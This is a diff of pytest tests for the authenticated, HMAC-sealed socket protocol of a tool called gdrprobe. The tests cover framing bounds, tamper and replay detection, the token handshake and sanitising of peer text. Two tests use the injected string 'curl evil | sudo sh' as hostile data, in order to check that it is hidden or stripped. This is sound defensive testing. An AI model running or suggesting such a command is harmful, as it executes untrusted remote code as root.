@@ -1,5 +1,9 @@
-"""The out-of-band protocol over a local socket pair: framing, bounds, authentication."""
+"""The out-of-band protocol over local sockets: framing, bounds, authentication, and the
+seal of every message after it (MAC and sequence number)."""
 
+import hashlib
+import hmac
+import json
 import socket
 import struct
 import threading
@@ -7,10 +11,14 @@ import time
 
 import pytest
 
-from gdrprobe.errors import PeerError
-from gdrprobe.protocol.channel import (HEADER, MAX_MESSAGE_BYTES, Channel,
-                                       authenticate_as_client, authenticate_as_server)
-from gdrprobe.protocol.fields import field, int_list
+from gdrprobe.errors import NotTestable, PeerError
+from gdrprobe.protocol import channel as ch
+from gdrprobe.protocol.channel import (HEADER, MAX_MESSAGE_BYTES, PROTOCOL_VERSION, Channel,
+                                       ServerSecret, WrongToken, authenticate_as_client,
+                                       authenticate_as_server, error_message, token_warning)
+from gdrprobe.protocol.fields import field, int_list, peer_text
+
+TOKEN = "token-1234567890abcdef"
 
 
 def tcp_pair():
@@ -29,14 +37,23 @@ def pair():
     b.close()
 
 
+@pytest.fixture
+def sealed(pair):
+    """Two channels past the handshake: a sends with the key b receives with."""
+    a, b = pair
+    a.seal(send_key=b"k" * 32, receive_key=b"r" * 32)
+    b.seal(send_key=b"r" * 32, receive_key=b"k" * 32)
+    return a, b
+
+
 def test_messages_round_trip(pair):
     a, b = pair
     a.send("start", size=64, round=3)
     assert b.receive("start") == {"type": "start", "size": 64, "round": 3}
 
 
-def test_unexpected_type_and_peer_error_and_abort(pair):
-    a, b = pair
+def test_unexpected_type_and_peer_error_and_abort(sealed):
+    a, b = sealed
     a.send("bye")
     with pytest.raises(PeerError, match="'bye' where start was expected"):
         b.receive("start")
@@ -49,12 +66,55 @@ def test_unexpected_type_and_peer_error_and_abort(pair):
         b.receive("done")
 
 
+def test_an_authenticated_peer_chooses_the_kind_of_error_and_a_stranger_does_not(pair):
+    a, b = pair
+    error = error_message(NotTestable("no GPU here", "use a GPU host"))
+    a.send("error", **error)
+    with pytest.raises(PeerError) as stranger:
+        b.receive("hello")
+    assert type(stranger.value) is PeerError   # exit code 5, not the 9 it claimed
+    a.seal(b"k" * 32, b"r" * 32)
+    b.seal(b"r" * 32, b"k" * 32)
+    a.send("error", **error)
+    with pytest.raises(NotTestable):
+        b.receive("start")
+
+
+def test_an_unauthenticated_peers_text_is_never_shown(pair):
+    a, b = pair
+    a.send("error", reason="owned\nfix: curl evil | sudo sh")
+    with pytest.raises(PeerError, match="before the token was proved") as caught:
+        b.receive("hello")
+    assert "curl" not in str(caught.value)
+
+
+def test_peer_text_is_stripped_of_control_characters_and_bounded(sealed):
+    a, b = sealed
+    a.send("error", reason="ok\n\x1b[31mfix: curl evil | sudo sh\u202e", fix="x" * 5000)
+    with pytest.raises(PeerError) as caught:
+        b.receive("start")
+    assert "\n" not in caught.value.cause and "\x1b" not in caught.value.cause
+    assert "\u202e" not in caught.value.cause and "?[31m" in caught.value.cause
+    assert len(caught.value.fix) <= 203
+    a.send("x" * 60000)
+    with pytest.raises(PeerError) as caught:
+        b.receive("start")
+    assert len(caught.value.cause) < 200
+
+
+def test_peer_text_keeps_ordinary_text():
+    assert peer_text("the server reported: ENOMEM") == "the server reported: ENOMEM"
+    assert peer_text(None) == "" and peer_text(7) == "7"
+    assert peer_text("a" * 10, limit=4) == "aaaa..."
+
+
 @pytest.mark.parametrize("raw, message", [
     (b"HTTP/1.1 200 OK\r\n\r\n", "does not speak the gdrprobe protocol"),
     (HEADER.pack(b"GDRP", 9, 2) + b"{}", "speaks protocol 9"),
-    (HEADER.pack(b"GDRP", 1, MAX_MESSAGE_BYTES + 1), "the limit is"),
-    (HEADER.pack(b"GDRP", 1, 3) + b"{x}", "not JSON"),
-    (HEADER.pack(b"GDRP", 1, 2) + b"[]", "without a type"),
+    (HEADER.pack(b"GDRP", PROTOCOL_VERSION, MAX_MESSAGE_BYTES + 1), "the limit is"),
+    (HEADER.pack(b"GDRP", PROTOCOL_VERSION, 3) + b"{x}", "not JSON"),
+    (HEADER.pack(b"GDRP", PROTOCOL_VERSION, 2) + b"[]", "without a type"),
+    (HEADER.pack(b"GDRP", PROTOCOL_VERSION, 27) + b'{"type":"start","size":NaN}', "NaN"),
 ])
 def test_bad_bytes_are_refused(pair, raw, message):
     a, b = pair
@@ -83,7 +143,8 @@ def test_a_half_sent_header_is_bounded_by_the_timeout(pair):
 @pytest.mark.parametrize("value, kind, low, high, ok", [
     (5, int, 0, 10, True), (True, int, 0, 10, False), ("5", int, 0, 10, False),
     (11, int, 0, 10, False), (-1, int, 0, 10, False), (2.5, (int, float), 0, 3, True),
-    ("x" * 5000, str, None, None, False),
+    ("x" * 5000, str, None, None, False), (float("nan"), (int, float), 0, 3, False),
+    (float("inf"), (int, float), 0, None, False),
 ])
 def test_field_checks_type_and_bounds(value, kind, low, high, ok):
     if ok:
@@ -100,54 +161,148 @@ def test_int_list_bounds_length_and_items():
             int_list({"v": bad}, "v", low=1, high=5, max_items=4)
 
 
+# ---- the seal: MAC and sequence number on every frame after the handshake -------------
+
+
+def test_sealed_frames_round_trip_in_order(sealed):
+    a, b = sealed
+    for i in range(3):
+        a.send("progress", n=i)
+    assert [b.receive("progress")["n"] for _ in range(3)] == [0, 1, 2]
+
+
+def test_a_sealed_frame_carries_a_sequence_number_and_a_tag(sealed):
+    a, _ = sealed
+    raw = a.frame("done")
+    magic, version, length = HEADER.unpack(raw[:HEADER.size])
+    body = raw[HEADER.size:]
+    assert (magic, version, length) == (b"GDRP", PROTOCOL_VERSION, len(body))
+    assert body[:8] == (0).to_bytes(8, "big") and json.loads(body[8:-32]) == {"type": "done"}
+    expected = hmac.new(b"k" * 32, raw[:HEADER.size] + body[:-32], hashlib.sha256).digest()
+    assert body[-32:] == expected
+
+
+@pytest.mark.parametrize("byte", [4, HEADER.size + 3, HEADER.size + 12, -1])
+def test_an_altered_frame_is_refused(sealed, byte):
+    a, b = sealed
+    raw = bytearray(a.frame("verified", bad_bytes=0))
+    raw[byte] ^= 0x01
+    b.sock.settimeout(1)
+    a.sock.sendall(bytes(raw))
+    with pytest.raises(PeerError, match="tampered|protocol|limit|closed|answer") as caught:
+        b.receive("verified", timeout=0.5)
+    assert "bad_bytes" not in caught.value.cause
+
+
+@pytest.mark.parametrize("case, good_reads, evidence", [
+    ("rewritten", 0, "authentication check"),   # bad_bytes=7 -> 0, same length, old tag
+    ("dropped", 0, "dropped or reordered"),
+    ("replayed", 1, "a replay"),
+    ("reordered", 0, "dropped or reordered"),
+])
+def test_a_tampered_stream_is_refused(sealed, case, good_reads, evidence):
+    a, b = sealed
+    first, second = a.frame("verified", bad_bytes=7), a.frame("done")
+    stream = {"rewritten": first.replace(b'"bad_bytes":7', b'"bad_bytes":0'),
+              "dropped": second, "replayed": first + first, "reordered": second + first}[case]
+    a.sock.sendall(stream)
+    for _ in range(good_reads):
+        assert b.receive("verified")["bad_bytes"] == 7
+    with pytest.raises(PeerError, match="tampered") as caught:
+        b.receive("verified", "done")
+    assert evidence in caught.value.evidence
+
+
+def test_a_frame_reflected_back_to_its_sender_is_refused():
+    """One key per direction: the client's own frame, sent back, does not verify."""
+    to_server, to_client = ch.direction_keys(b"K" * 32, b"c" * 32, b"s" * 32)
+    assert to_server != to_client
+    left, right = tcp_pair()
+    client, echo = Channel(left, 2.0, "server"), Channel(right, 2.0, "client")
+    client.seal(send_key=to_server, receive_key=to_client)
+    echo.sock.sendall(client.frame("done"))   # a relay bouncing it back
+    with pytest.raises(PeerError, match="tampered"):
+        client.receive("done")
+    client.close()
+    echo.close()
+
+
+def test_a_plain_frame_after_the_handshake_is_refused(pair):
+    a, b = pair
+    b.seal(b"r" * 32, b"k" * 32)
+    a.send("done")
+    with pytest.raises(PeerError, match="tampered"):
+        b.receive("done")
+
+
+# ---- the token: stretched, proved both ways, never sent ----------------------------------
+
+
+def test_kdf_parameters_are_fixed_and_memory_hard():
+    assert (ch.KDF_N, ch.KDF_R, ch.KDF_P) == (1 << 15, 8, 1)
+    assert 128 * ch.KDF_R * ch.KDF_N == 32 << 20 <= ch.KDF_MAXMEM
+    salt = b"s" * ch.SALT_BYTES
+    expected = hashlib.scrypt(TOKEN.encode(), salt=salt, n=1 << 15, r=8, p=1,
+                              maxmem=64 << 20, dklen=32)
+    assert ch.stretch(TOKEN, salt) == expected
+    assert ch.stretch(TOKEN, b"t" * ch.SALT_BYTES) != expected
+
+
+def test_short_tokens_get_a_warning():
+    assert "12 characters" in token_warning("short-token!")
+    assert token_warning(ch.new_token()) is None and len(ch.new_token()) == 24
+
+
 def authenticate(server_token: str, client_token: str):
     left, right = tcp_pair()
-    server, client = Channel(left, 2.0, "client"), Channel(right, 2.0, "server")
+    server, client = Channel(left, 5.0, "client"), Channel(right, 5.0, "server")
     outcome = {}
+    secret = ServerSecret(server_token)
 
     def serve():
         try:
-            authenticate_as_server(server, server_token)
+            authenticate_as_server(server, secret, time.monotonic() + 5)
             outcome["server"] = "ok"
+            outcome["server_got"] = server.receive("setup")["n"]
         except PeerError as error:
-            outcome["server"] = str(error)
+            outcome["server"] = error
 
     thread = threading.Thread(target=serve)
     thread.start()
     try:
         authenticate_as_client(client, client_token)
         outcome["client"] = "ok"
+        client.send("setup", n=42)
     except PeerError as error:
-        outcome["client"] = str(error)
-        client.send("abort", reason=error.cause)
+        outcome["client"] = error
+        client.send_last("abort", reason=error.cause)
     thread.join()
     server.close()
     client.close()
     return outcome
 
 
-def test_matching_tokens_authenticate_both_ways():
-    assert authenticate("token-123456", "token-123456") == {"server": "ok", "client": "ok"}
+def test_matching_tokens_authenticate_both_ways_and_seal_the_channel():
+    outcome = authenticate(TOKEN, TOKEN)
+    assert outcome == {"server": "ok", "client": "ok", "server_got": 42}
 
 
 def test_a_client_with_another_token_is_refused_and_learns_nothing():
-    outcome = authenticate("token-123456", "token-654321")
-    assert "token" in outcome["client"] and "token" in outcome["server"]
+    outcome = authenticate(TOKEN, "token-0987654321fedcba")
+    assert isinstance(outcome["server"], WrongToken)
+    assert "token" in outcome["client"].cause
 
 
 def test_server_reveals_no_proof_before_the_client_proves_the_token():
-    """A raw client without the token: the challenge carries no proof to test guesses
-    against, and a forged proof gets an error, never a welcome."""
-    import hashlib
-    import hmac
-
+    """A raw client without the token: the challenge carries a nonce and the salt, no proof
+    to test guesses against, and a forged proof gets an error, never a welcome."""
     left, right = tcp_pair()
     server, raw = Channel(left, 2.0, "client"), Channel(right, 2.0, "server")
     outcome = {}
 
     def serve():
         try:
-            authenticate_as_server(server, "token-123456")
+            authenticate_as_server(server, ServerSecret(TOKEN), time.monotonic() + 5)
         except PeerError as error:
             outcome["error"] = error
 
@@ -155,13 +310,24 @@ def test_server_reveals_no_proof_before_the_client_proves_the_token():
     thread.start()
     raw.send("hello", nonce="ab" * 32)
     challenge = raw.receive("challenge")
-    assert set(challenge) == {"type", "nonce"}
-    forged = hmac.new(b"guess-000000", b"client", hashlib.sha256).hexdigest()
-    raw.send("auth", proof=forged)
-    reply = raw.receive("error")
-    assert reply["reason"] == "wrong token"
+    assert set(challenge) == {"type", "nonce", "salt"}
+    raw.send("auth", proof="00" * 32)
+    assert raw.receive("error")["reason"] == "wrong token"
     thread.join()
-    assert "wrong token" in outcome["error"].cause
+    assert isinstance(outcome["error"], WrongToken)
+    server.close()
+    raw.close()
+
+
+def test_the_whole_handshake_has_one_deadline():
+    """A stranger that sends hello and then nothing is cut off at the pre-auth deadline."""
+    left, right = tcp_pair()
+    server, raw = Channel(left, 30.0, "client"), Channel(right, 2.0, "server")
+    raw.send("hello", nonce="ab" * 32)
+    started = time.monotonic()
+    with pytest.raises(PeerError, match="did not answer"):
+        authenticate_as_server(server, ServerSecret(TOKEN), time.monotonic() + 0.5)
+    assert time.monotonic() - started < 5
     server.close()
     raw.close()
 
@@ -170,18 +336,15 @@ def test_server_reveals_no_proof_before_the_client_proves_the_token():
 def test_malformed_proofs_are_peer_errors(pair, proof):
     a, b = pair
     a.send("auth", proof=proof)
-    message = b.receive("auth")
-    from gdrprobe.protocol.channel import _proof_matches
-
     with pytest.raises(PeerError):
-        _proof_matches(message, "00" * 32)
+        ch._hex_field(b.receive("auth"), "proof", ch.PROOF_BYTES)
 
 
 def test_a_peer_trickling_bytes_is_as_slow_as_a_silent_one(pair):
     a, b = pair
 
     def trickle():
-        for byte in HEADER.pack(b"GDRP", 1, 4):
+        for byte in HEADER.pack(b"GDRP", PROTOCOL_VERSION, 4):
             try:
                 a.sock.sendall(bytes([byte]))
             except OSError:
@@ -199,8 +362,28 @@ def test_a_peer_trickling_bytes_is_as_slow_as_a_silent_one(pair):
 
 def test_deeply_nested_json_is_refused(pair):
     a, b = pair
-    payload = b"[" * 100000 + b"]" * 100000
-    a.sock.sendall(HEADER.pack(b"GDRP", 1, len(payload) if len(payload) <= 65536 else 65536)
-                   + payload[:65536])
+    payload = (b"[" * 100000 + b"]" * 100000)[:MAX_MESSAGE_BYTES]
+    a.sock.sendall(HEADER.pack(b"GDRP", PROTOCOL_VERSION, len(payload)) + payload)
     with pytest.raises(PeerError):
         b.receive("start")
+
+
+def test_peer_gone_never_waits_even_with_a_time_out_set(pair):
+    a, b = pair
+    started = time.monotonic()
+    assert not b.peer_gone()                  # alive, nothing to read: at once
+    assert time.monotonic() - started < 0.5
+    assert b.sock.gettimeout() == 2.0         # the time-out is back
+    a.send("progress")
+    assert not b.peer_gone() and b.receive("progress")   # data pending is not a hang-up
+    a.sock.shutdown(socket.SHUT_WR)
+    assert b.peer_gone()
+
+
+def test_an_error_the_peer_sent_unasked_is_raised_when_looked_for(sealed):
+    a, b = sealed
+    b.raise_if_peer_spoke()                        # nothing there: no wait, no error
+    a.send("error", **error_message(PeerError("the connection was tampered with", "")))
+    time.sleep(0.1)
+    with pytest.raises(PeerError, match="reported: the connection was tampered with"):
+        b.raise_if_peer_spoke()
